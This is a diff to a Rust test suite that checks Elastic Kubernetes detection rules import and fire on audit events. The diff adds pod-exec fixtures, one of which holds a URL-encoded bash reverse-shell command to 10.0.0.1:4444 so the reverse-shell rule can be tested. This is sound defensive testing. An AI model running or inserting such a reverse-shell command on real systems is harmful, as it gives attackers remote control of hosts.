@@ -24,47 +24,39 @@ fn import_elastic() -> Option<(serde_json::Value, PathBuf)> {
 }
 
 /// Every KQL rule (`language = "kuery"`: the `query` and `new_terms` rules) and every EQL rule
-/// imports, and the ES|QL rules without `EVAL` and with at most one condition on their `STATS`;
-/// the others say why.
+/// imports, and every ES|QL rule but those with several conditions on their `STATS`, which say
+/// so.
 #[test]
 fn every_kql_and_eql_rule_imports_and_the_others_say_why() {
     let Some((report, out)) = import_elastic() else {
         return;
     };
     let data = shared_data().expect("checked above");
-    let mut kql_or_eql = 0;
-    let mut esql_without_eval = 0;
+    let mut esql = std::collections::BTreeSet::new();
     for entry in std::fs::read_dir(data.join("elastic-k8s-rules")).expect("the rules") {
         let path = entry.expect("an entry").path();
         if path.extension().is_some_and(|e| e == "toml") {
             let text = std::fs::read_to_string(&path).expect("readable");
-            if text.contains("language = \"kuery\"") || text.contains("language = \"eql\"") {
-                kql_or_eql += 1;
-            } else if text.contains("language = \"esql\"")
-                && !text.to_lowercase().contains("| eval")
-            {
-                esql_without_eval += 1;
+            if text.contains("language = \"esql\"") {
+                esql.insert(path.display().to_string());
             }
         }
     }
     let rules = report["rules"].as_array().expect("rules");
     assert_eq!(rules.len(), 45, "{report:#}");
-    assert!(
-        kql_or_eql >= 30 && esql_without_eval >= 4,
-        "{kql_or_eql}, {esql_without_eval}"
-    );
-    let imported = rules.iter().filter(|r| r["imported"].is_array()).count();
-    // One ES|QL rule without `EVAL` puts three conditions on its `STATS`.
-    assert_eq!(imported, kql_or_eql + esql_without_eval - 1, "{report:#}");
-    for r in rules.iter().filter(|r| r["imported"].is_null()) {
+    assert_eq!(esql.len(), 11);
+    let skipped: Vec<&serde_json::Value> =
+        rules.iter().filter(|r| r["imported"].is_null()).collect();
+    assert_eq!(skipped.len(), 2, "{report:#}");
+    for r in &skipped {
         let reason = r["skipped"].as_str().unwrap_or("");
         assert!(
-            reason.starts_with("the ES|QL command `EVAL`")
-                || reason.starts_with("a condition on the `STATS` other than one comparison"),
+            reason.starts_with("a condition on the `STATS` other than one comparison"),
             "{r}"
         );
+        assert!(esql.contains(r["file"].as_str().unwrap_or("")), "{r}");
     }
-    let kuery = imported;
+    let kuery = rules.len() - skipped.len();
     assert_eq!(report["errors"].as_array().map(Vec::len), Some(0));
     assert_eq!(report["files"].as_array().map(Vec::len), Some(kuery));
     // What was written loads: no errors, and the warnings are two flaws of the Elastic rules:
@@ -200,6 +192,18 @@ fn imported_rules_fire_on_raw_and_elastic_agent_events() {
             }),
         )
     };
+    let exec = |id: &str, second: u32, command: &str| {
+        raw(
+            id,
+            second,
+            serde_json::json!({
+                "verb": "create", "user": {"username": "eve"}, "level": "Request",
+                "requestURI": format!("/api/v1/namespaces/web/pods/api-0/exec?command=sh&command=-c&command={command}&container=api&stdin=true"),
+                "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "web", "name": "api-0"},
+                "annotations": {"authorization.k8s.io/decision": "allow"},
+            }),
+        )
+    };
     let events = [
         pod("raw-pod", 0, "alpine"),
         elastic_agent(pod("agent-pod", 1, "alpine")),
@@ -226,6 +230,13 @@ fn imported_rules_fire_on_raw_and_elastic_agent_events() {
         secret("s2", 21, "a"),
         secret("s3", 22, "b"),
         secret("s4", 23, "c"),
+        // ES|QL's exec command, taken from the request URI: a reverse shell, and a health check.
+        exec(
+            "shell",
+            30,
+            "bash+-i+%3E%26+%2Fdev%2Ftcp%2F10.0.0.1%2F4444+0%3E%261",
+        ),
+        exec("health", 31, "cat+%3C+%2Fdev%2Ftcp%2Flocalhost%2F8080"),
     ]
     .map(|e| e.to_string());
     let fired = fired(&out, &events);
@@ -248,6 +259,11 @@ fn imported_rules_fire_on_raw_and_elastic_agent_events() {
     assert_eq!(
         fired.get("kubernetes_rapid_secret_get_activity_against_multiple_objects"),
         Some(&vec!["s4".to_owned()]),
+        "{fired:#?}"
+    );
+    assert_eq!(
+        fired.get("kubernetes_pod_exec_potential_reverse_shell"),
+        Some(&vec!["shell".to_owned()]),
         "{fired:#?}"
     );
 }
